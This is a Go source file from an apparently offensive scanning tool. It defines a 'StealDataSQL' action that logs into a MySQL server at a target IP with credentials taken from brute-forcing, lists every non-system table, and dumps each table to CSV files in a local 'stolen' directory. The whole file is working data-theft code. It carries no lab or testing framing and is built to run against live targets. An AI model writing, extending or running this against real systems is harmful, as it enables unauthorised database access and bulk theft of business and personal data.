package actions

import (
	"context"
	"database/sql"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"neohunter/internal/core/model"
	"neohunter/internal/core/scanner/brute"
	"neohunter/internal/core/scanner/brute/protocol"
	"neohunter/internal/pkg/logger"
)

const listTablesQuery = `SELECT TABLE_NAME, TABLE_SCHEMA FROM INFORMATION_SCHEMA.TABLES
WHERE TABLE_SCHEMA NOT IN ('information_schema', 'mysql', 'performance_schema', 'sys')
AND TABLE_TYPE = 'BASE TABLE'`

type sqlTable struct {
	Schema string
	Name   string
}

// StealDataSQL 使用 SQL 爆破得到的凭据导出业务表
type StealDataSQL struct {
	store *brute.CredentialStore
	deps  Deps
}

func NewStealDataSQL(store *brute.CredentialStore, deps Deps) *StealDataSQL {
	return &StealDataSQL{store: store, deps: deps}
}

func (a *StealDataSQL) Execute(ctx context.Context, ip string, port int, record *model.TargetRecord, key string) model.Outcome {
	cfg := a.deps.config()
	records := credentialsFor(a.store, ip)
	if len(records) == 0 {
		logger.Warnf("%s: no credentials found for %s", key, ip)
		return model.OutcomeFailed
	}

	wd := startWatchdog(stealWatchdog(cfg), fmt.Sprintf("%s %s", key, ip))
	defer wd.Stop()

	maxRows := 0
	if cfg.Steal != nil {
		maxRows = cfg.Steal.MaxRows
	}
	start := time.Now()

	for _, rec := range records {
		if ctx.Err() != nil || wd.Stopped() {
			break
		}
		cred := model.Credential{User: rec.User, Password: rec.Password}
		db, err := protocol.OpenMySQL(ip, port, cred, "")
		if err != nil {
			continue
		}

		tables, err := listTables(ctx, db)
		if err != nil {
			db.Close()
			logger.Debugf("%s: listing tables on %s as %s failed: %v", key, ip, cred.User, err)
			continue
		}
		wd.MarkConnected()

		database := rec.Extra
		if database == "" {
			database = "all"
		}
		dir := stolenDir(cfg, "sql", record.MAC, ip, database)

		n := 0
		for _, t := range tables {
			if ctx.Err() != nil || wd.Stopped() {
				break
			}
			file := filepath.Join(dir, fmt.Sprintf("%s_%s.csv", t.Schema, t.Name))
			if err := dumpTable(ctx, db, t, file, maxRows); err != nil {
				logger.Warnf("Failed to dump %s.%s: %v", t.Schema, t.Name, err)
				continue
			}
			n++
		}
		db.Close()

		if n > 0 {
			logger.LogActionOperation(key, ip, "success", time.Since(start), map[string]interface{}{
				"user":   cred.User,
				"tables": n,
			})
			return model.OutcomeSuccess
		}
	}

	logger.Warnf("%s: no data retrieved from %s:%d", key, ip, port)
	return model.OutcomeFailed
}

func listTables(ctx context.Context, db *sql.DB) ([]sqlTable, error) {
	rows, err := db.QueryContext(ctx, listTablesQuery)
	if err != nil {
		return nil, err
	}
	defer rows.Close()

	var tables []sqlTable
	for rows.Next() {
		var t sqlTable
		if err := rows.Scan(&t.Name, &t.Schema); err != nil {
			return nil, err
		}
		tables = append(tables, t)
	}
	return tables, rows.Err()
}

func dumpTable(ctx context.Context, db *sql.DB, t sqlTable, file string, maxRows int) error {
	query := fmt.Sprintf("SELECT * FROM %s.%s", quoteIdent(t.Schema), quoteIdent(t.Name))
	if maxRows > 0 {
		query += fmt.Sprintf(" LIMIT %d", maxRows)
	}
	rows, err := db.QueryContext(ctx, query)
	if err != nil {
		return err
	}
	defer rows.Close()

	cols, err := rows.Columns()
	if err != nil {
		return err
	}
	if err := os.MkdirAll(filepath.Dir(file), 0755); err != nil {
		return err
	}
	f, err := os.Create(file)
	if err != nil {
		return err
	}
	defer f.Close()

	w := csv.NewWriter(f)
	w.Write(cols)

	values := make([]sql.RawBytes, len(cols))
	dest := make([]interface{}, len(cols))
	for i := range values {
		dest[i] = &values[i]
	}
	row := make([]string, len(cols))
	for rows.Next() {
		if err := rows.Scan(dest...); err != nil {
			return err
		}
		for i, v := range values {
			row[i] = string(v)
		}
		w.Write(row)
	}
	if err := rows.Err(); err != nil {
		return err
	}
	w.Flush()
	return w.Error()
}

func quoteIdent(s string) string {
	return "`" + strings.ReplaceAll(s, "`", "``") + "`"
}
